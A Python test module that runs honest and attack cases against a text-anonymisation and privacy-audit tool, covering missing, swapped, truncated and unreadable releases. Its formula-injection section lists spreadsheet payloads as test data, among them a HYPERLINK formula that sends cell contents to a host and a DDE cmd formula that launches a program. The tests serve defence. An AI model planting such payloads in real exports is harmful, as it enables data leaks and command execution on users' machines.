"""Rows that fail, are missing, exchanged, cut or unknown: points 1, 2, 3, 5, 7, 11 and 13."""

import csv
import json
import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from hostile_attacks.paraphrases import originals as plain_originals
from hostile_attacks.paraphrases import rewritten
from hostile_attacks.world import GATE, Audited, Ran, Rows, Seen, World, attack, honest, texts_of

LOW_GATE = "cpr=0.3"
"""What honest masks pass: a strong reader is estimated to leave more than four tenths."""
REFUSAL = "I'm sorry, but I can't help with rewriting this text."
RUSSIAN = (
    "Вчера вечером соседи долго говорили о ремонте крыши, о погоде и о том, что автобус опять не пришёл вовремя. "
    "Потом все разошлись по домам, и во дворе стало тихо."
)


def half(rows: Rows, change: Callable[[str], str | None]) -> Rows:
    """Change every other text, and leave out those that become None."""
    changed = [{**row, "text": change(row["text"]) if at % 2 else row["text"]} for at, row in enumerate(rows)]
    return [row for row in changed if row["text"] is not None]


def exits(ran: Ran, *wanted: int, more: str = "") -> Seen:
    """Hold if the command ended with one of these statuses."""
    return Seen(ran.status in wanted, "; ".join(one for one in (f"exit {ran.status}", more, ran.why) if one))


# 1: compare


def _masked_audit(world: World) -> Path:
    def audited() -> Path:
        ran, folder = world.audit_folder("masked", texts_of(world.released("mask")))
        assert ran.status == 0, ran.err
        return folder

    return world.once("masked audit", audited)


def _other_documents(world: World) -> Rows:
    """Return the documents under other ids, so that no person has a pair."""
    return [{**row, "id": f"other-{row['id']}"} for row in world.documents]


def _compared(world: World, name: str, releases: Rows, originals: Path | None = None) -> Ran:
    _, second = world.audit_folder(name, releases, originals=originals)
    return world.gyges("compare", _masked_audit(world), second, "--fail-on-regression")


@attack("compare-failed", 1, "exit 1: the second audit failed wholly")
def compare_failed(world: World) -> Seen:
    """Compare with an audit of empty releases."""
    return exits(_compared(world, "empty", texts_of(world.documents, lambda _: "")), 1)


@attack("compare-refused", 1, "exit 1: the second audit's releases are refusals")
def compare_refused(world: World) -> Seen:
    """Compare with an audit of refusals."""
    return exits(_compared(world, "refused", texts_of(world.documents, lambda _: REFUSAL)), 1)


@attack("compare-half-missing", 1, "exit 1: half of the second audit's releases are missing")
def compare_half_missing(world: World) -> Seen:
    """Compare with an audit of every other release."""
    return exits(_compared(world, "half", texts_of(world.released("mask"))[::2]), 1)


@attack("compare-other-documents", 1, "exit 1 or 2: the second audit is of other documents")
def compare_other_documents(world: World) -> Seen:
    """Compare with a good audit of documents that the first does not know."""
    others = world.write("others", _other_documents(world))
    releases = [{**row, "id": f"other-{row['id']}"} for row in world.released("mask")]
    return exits(_compared(world, "other", texts_of(releases), others), 1, 2)


@attack("compare-fewer-documents", 1, "exit 1: six documents of the first audit are not in the second")
def compare_fewer_documents(world: World) -> Seen:
    """Compare with a good audit of half of the documents."""
    some = {row["id"] for row in world.documents[:6]}
    fewer = world.write("fewer", world.documents[:6])
    releases = [row for row in texts_of(world.released("mask")) if row["id"] in some]
    return exits(_compared(world, "fewer", releases, fewer), 1)


@honest("compare-same", 1, "exit 0: two good audits of the same releases")
def compare_same(world: World) -> Seen:
    """Compare an audit with itself, made again."""
    return exits(_compared(world, "again", texts_of(world.released("mask"))), 0)


@honest("compare-better", 1, "exit 0: masks protect more than originals")
def compare_better(world: World) -> Seen:
    """Compare originals with masks."""
    _, first = world.audit_folder("originals", texts_of(world.documents))
    return exits(world.gyges("compare", first, _masked_audit(world), "--fail-on-regression"), 0)


# 2: rows that cannot be read


def _half_null(rows: Rows) -> Rows:
    return [{**row, "text": None if at % 2 else row["text"]} for at, row in enumerate(rows)]


def _half_open(world: World) -> Rows:
    """Return masks, and the full originals where the originals cannot be read."""
    masks = {row["id"]: row["text"] for row in world.released("mask")}
    return [
        {"id": row["id"], "text": row["text"] if at % 2 else masks[row["id"]]} for at, row in enumerate(world.documents)
    ]


@attack("skip-bad-originals-audit", 2, "exit 1: six of twelve originals are null, their releases in full")
def skip_bad_originals_audit(world: World) -> Seen:
    """Publish in full what has no readable original."""
    originals = world.write("null", _half_null(world.documents))
    options = ("--skip-bad", "--fail-under", LOW_GATE)
    audited = world.audit("skipped", _half_open(world), *options, originals=originals)
    return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


@attack("skip-bad-originals-anonymize", 2, "exit 1: six of twelve originals are null")
def skip_bad_originals_anonymize(world: World) -> Seen:
    """Release a file of which half cannot be read."""
    originals, out = world.write("null", _half_null(world.documents)), world.path("out.jsonl")
    words = ("anonymize", originals, "--method", "mask", "--skip-bad", "-o", out, "--out", world.path("run"))
    ran = world.gyges(*words)
    return exits(ran, 1, more=(ran.out.splitlines() or [""])[0])


@attack("skip-bad-originals-link", 2, "exit 1: six of twelve originals are null, their releases in full")
def skip_bad_originals_link(world: World) -> Seen:
    """Link where half of the originals cannot be read."""
    originals = world.write("null", _half_null(world.documents))
    return exits(_linked(world, _half_open(world), "--skip-bad", originals=originals)[0], 1)


@attack("skip-bad-releases", 2, "exit 1: six of twelve releases are null")
def skip_bad_releases(world: World) -> Seen:
    """Audit releases of which half cannot be read."""
    releases = _half_null(texts_of(world.released("mask")))
    audited = world.audit("null", releases, "--skip-bad", "--fail-under", LOW_GATE)
    return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


@attack("skip-bad-broken-lines", 2, "exit 1: six lines of the originals are no JSON, their releases in full")
def skip_bad_broken_lines(world: World) -> Seen:
    """Break lines of the originals in the middle."""
    path = world.write("broken", world.documents)
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join(one[: len(one) // 2] if at % 2 else one for at, one in enumerate(lines)), "utf-8")
    options = ("--skip-bad", "--fail-under", LOW_GATE)
    audited = world.audit("broken", _half_open(world), *options, originals=path)
    return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


@honest("skip-bad-good-rows", 2, "exit 0: no row is bad")
def skip_bad_good_rows(world: World) -> Seen:
    """Audit honest masks with the option."""
    audited = world.audit("good", texts_of(world.released("mask")), "--skip-bad", "--fail-under", LOW_GATE)
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


@honest("skip-bad-good-anonymize", 2, "exit 0: no row is bad")
def skip_bad_good_anonymize(world: World) -> Seen:
    """Release good rows with the option."""
    out = world.path("out.jsonl")
    words = ("anonymize", world.originals, "--method", "mask", "--skip-bad", "-o", out, "--out", world.path("run"))
    return exits(world.gyges(*words), 0)


# 3: link


def _linked(
    world: World, releases: Rows, *options: object, originals: Path | None = None
) -> tuple[Ran, Mapping[str, Any]]:
    told, path = world.path("link.json"), world.write("linked", releases)
    words = ("link", originals or world.originals, path, "--no-controls", "--json", told, "--out", world.path("link"))
    ran = world.gyges(*words, *options)
    return ran, json.loads(told.read_text(encoding="utf-8")) if told.exists() else {}


def _link_told(told: Mapping[str, Any]) -> tuple[float | None, str]:
    """Return the share of correct links as a gate reads it, and all of it in words."""
    row = told.get("linkage", {}).get("correct")
    if not row:
        return None, "no figure"
    value = row["value"] if row.get("all_leaked") is None else row["all_leaked"]
    return value, f"correct {row['value']} of {row['denominator']:g}"


LINK_FAILURES: Mapping[str, Callable[[str], str | None]] = {
    "zero-width": lambda _: "\u200b\u200c\u2060" * 30,
    "hidden": lambda text: "\u200b".join(text),
    "empty": lambda _: "",
    "refused": lambda _: REFUSAL,
    "russian": lambda _: RUSSIAN,
    "missing": lambda _: None,
}


def _link_failure(name: str, change: Callable[[str], str | None]) -> None:
    @attack(f"link-{name}", 3, "all twelve in the figure, and half failed is exit 1; or read as if nothing were there")
    def link_failure(world: World) -> Seen:
        ran, told = _linked(world, half(texts_of(world.released("mask")), change))
        good = world.once("linked", lambda: _linked(world, texts_of(world.released("mask")))[1])
        (least, _), (value, words) = _link_told(good), _link_told(told)
        whole = (told.get("linkage", {}).get("correct") or {}).get("denominator") == len(world.documents)
        lower = value is not None and least is not None and value < least - 1e-9
        read = told.get("coverage", {}).get("attacked") == len(world.documents) and not lower
        return Seen(read or (ran.status == 1 and whole and not lower), f"exit {ran.status}, {words}; {ran.why}")


for _name, _change in LINK_FAILURES.items():
    _link_failure(_name, _change)


@honest("link-good", 3, "exit 0: every release can be read")
def link_good(world: World) -> Seen:
    """Link honest masks."""
    ran, told = _linked(world, texts_of(world.released("mask")))
    return Seen(ran.status == 0, f"exit {ran.status}, {_link_told(told)[1]}; {ran.why}")


# 5: releases of other documents


def _gated(world: World, name: str, releases: Rows, gate: str, *options: object, **more: Any) -> Audited:
    return world.audit(name, releases, "--attacker", "rules", "--fail-under", gate, *options, **more)


def _shifted(rows: Rows) -> Rows:
    return [{"id": row["id"], "text": rows[at - 1]["text"]} for at, row in enumerate(rows)]


@attack("shifted-originals", 5, "exit 1: every original is published in full, under the id of another")
def shifted_originals(world: World) -> Seen:
    """Publish originals shifted by one id."""
    audited = _gated(world, "shifted", _shifted(world.documents), GATE)
    return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


@attack("shifted-masks", 5, "exit 1: no release is made from its original")
def shifted_masks(world: World) -> Seen:
    """Publish masks shifted by one id."""
    audited = _gated(world, "shifted", _shifted(world.released("mask")), GATE)
    return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


@attack("swapped-original", 5, "exit 1, and the id is named: one original in full in the place of another release")
def swapped_original(world: World) -> Seen:
    """Publish one original under the id of another document, among honest masks."""
    releases = texts_of(world.released("mask"))
    place, other = releases[3], next(row for row in world.documents if row["id"] != releases[3]["id"])
    place["text"] = other["text"]
    audited = _gated(world, "swapped", releases, LOW_GATE)
    said = audited.ran.out + audited.ran.err + json.dumps(audited.results.get("coverage", {}))
    named = place["id"] in said
    return Seen(named and audited.ran.status == 1, f"{audited.told}; {'named' if named else 'not named'}")


@attack("swapped-disguised", 5, "exit 1, and the id is named: the same in capitals with other blanks")
def swapped_disguised(world: World) -> Seen:
    """Publish one original in capitals under the id of another document."""
    releases = texts_of(world.released("mask"))
    place, other = releases[3], next(row for row in world.documents if row["id"] != releases[3]["id"])
    place["text"] = "  ".join(other["text"].upper().split())
    audited = _gated(world, "swapped", releases, LOW_GATE)
    said = audited.ran.out + audited.ran.err + json.dumps(audited.results.get("coverage", {}))
    named = place["id"] in said
    return Seen(named and audited.ran.status == 1, f"{audited.told}; {'named' if named else 'not named'}")


@attack("appended-original", 5, "exit 1: one release carries another document's original at its end")
def appended_original(world: World) -> Seen:
    """Publish one original at the end of the release of another."""
    releases = texts_of(world.released("mask"))
    place, other = releases[3], next(row for row in world.documents if row["id"] != releases[3]["id"])
    place["text"] += "\n\n" + other["text"]
    audited = _gated(world, "appended", releases, LOW_GATE)
    named = place["id"] in audited.ran.out + audited.ran.err + json.dumps(audited.results.get("coverage", {}))
    return Seen(named and audited.ran.status == 1, f"{audited.told}; {'named' if named else 'not named'}")


@honest("audit-mask", 5, "exit 0: honest masks")
def audit_mask(world: World) -> Seen:
    """Audit honest masks."""
    audited = _gated(world, "mask", texts_of(world.released("mask")), LOW_GATE)
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


@honest("audit-subjectwise", 5, "exit 0: honest releases of the default method")
def audit_subjectwise(world: World) -> Seen:
    """Audit honest releases of the default method."""
    audited = _gated(world, "subjectwise", texts_of(world.released("subjectwise")), LOW_GATE)
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


@honest("audit-strong", 5, "exit 0: honest releases of the default method at its strong level")
def audit_strong(world: World) -> Seen:
    """Audit honest releases that go far."""
    audited = _gated(world, "strong", texts_of(world.released("subjectwise", "--level", "strong")), LOW_GATE)
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


@honest("audit-paraphrases", 5, "exit 0, or with the options that the message names: rewritten by hand")
def audit_paraphrases(world: World) -> Seen:
    """Audit rewrites in other words."""
    originals = world.write("plain", plain_originals())
    audited = _gated(world, "paraphrases", rewritten(), LOW_GATE, originals=originals)
    if audited.ran.status == 1 and audited.covered == 1 and (options := accepting(world, audited.ran)):
        audited = _gated(world, "accepted", rewritten(), LOW_GATE, *options, originals=originals)
        return Seen(audited.ran.status == 0, f"with {' '.join(options)}: {audited.told}; {audited.ran.why}")
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


def accepting(world: World, ran: Ran) -> list[str]:
    """Return the options of ``audit`` that a message names and that accept what was refused."""
    known = world.once("audit help", lambda: world.gyges("audit", "--help").out)
    words = []
    for option, value in ran.options:
        listed = re.search(rf"^  {option} +(\S+)", known, re.M)
        if listed and option not in ("--attacker", "--fail-under"):
            words += [option, value] if value and re.match(r"[A-Z<]|\w+=", listed[1]) else [option]
    return words


# 7: truncated releases

CUTS: Mapping[str, Callable[[str], str]] = {
    "20-characters": lambda text: text[:20],
    "tenth": lambda text: text[: len(text) // 10],
    "sentence": lambda text: text.partition(".")[0] + ".",
    "last-words": lambda text: " ".join(text.split()[-5:]),
}


def _cut(name: str, change: Callable[[str], str]) -> None:
    @attack(f"truncated-{name}", 7, "exit 1: next to nothing is left of the texts")
    def cut(world: World) -> Seen:
        audited = _gated(world, "cut", texts_of(world.documents, change), f"{GATE},coverage=0.5")
        return Seen(audited.ran.status == 1, f"{audited.told}; {audited.ran.why}")


for _name, _cutting in CUTS.items():
    _cut(_name, _cutting)


# 11: releases of nobody

STRANGER = "Tove Brandvold lives at Kirkegata 14, 0153 Oslo, and her number is +47 22 55 01 93."


@attack("unknown-id", 11, "the row is named and counted; with --strict exit 1")
def unknown_id(world: World) -> Seen:
    """Publish a row with a name and an address under an id that no original has."""
    releases = [*texts_of(world.released("mask")), {"id": "unknown-77", "text": STRANGER}]
    strict = "--strict" in world.once("audit help", lambda: world.gyges("audit", "--help").out)
    audited = _gated(world, "unknown", releases, LOW_GATE, *(["--strict"] if strict else []))
    said = audited.ran.out + audited.ran.err
    named = "unknown-77" in json.dumps(audited.results.get("coverage", {})) or "unknown-77" in said
    held = named and audited.ran.status == (1 if strict else 0)
    return Seen(held, f"exit {audited.ran.status}{', strict' if strict else ''}; {'named' if named else 'not named'}")


@honest("unknown-id-none", 11, "exit 0: every row has its original")
def unknown_id_none(world: World) -> Seen:
    """Audit honest masks as strictly as can be."""
    strict = "--strict" in world.once("audit help", lambda: world.gyges("audit", "--help").out)
    options = ["--strict"] if strict else []
    audited = _gated(world, "known", texts_of(world.released("mask")), LOW_GATE, *options)
    return Seen(audited.ran.status == 0, f"{audited.told}; {audited.ran.why}")


# 13: formulas in tables

FORMULAS = ('=HYPERLINK("http://127.0.0.1/?x="&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1")
_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(world: World, ids: tuple[str, ...], ending: str) -> tuple[Ran, list[str]]:
    source, out = world.path("ids.csv"), world.path(f"out.{ending}")
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "text"])
        writer.writerows([id_, f"Ms Ana Reis wrote letter {at}."] for at, id_ in enumerate(ids))
    words = ("anonymize", source, "--method", "mask", "--keep-ids", "-o", out, "--out", world.path("run"))
    ran = world.gyges(*words)
    if not out.exists():
        return ran, []
    with out.open(encoding="utf-8-sig", newline="") as stream:
        return ran, [cell for row in csv.reader(stream, delimiter="\t" if ending == "tsv" else ",") for cell in row]


def _formulas(ending: str) -> None:
    @attack(f"formula-ids-{ending}", 13, "no cell begins a formula, or the ids are refused")
    def formulas(world: World) -> Seen:
        ran, cells = _csv_cells(world, FORMULAS, ending)
        found = [cell for cell in cells if cell.startswith(_BEGINNINGS)]
        held = not found if ran.status == 0 else ran.status == 2
        return Seen(held, f"exit {ran.status}; {len(found)} of {len(FORMULAS)} ids begin a formula")


for _ending in ("csv", "tsv"):
    _formulas(_ending)


@honest("formula-ids-plain", 13, "exit 0, and ordinary ids stay as they are")
def formula_ids_plain(world: World) -> Seen:
    """Keep ids that begin no formula."""
    ids = ("a-1", "b=2", "2024/05", "c@example")
    ran, cells = _csv_cells(world, ids, "csv")
    return Seen(
        ran.status == 0 and set(ids) <= set(cells), f"exit {ran.status}; {len(set(ids) & set(cells))} of 4 kept"
    )
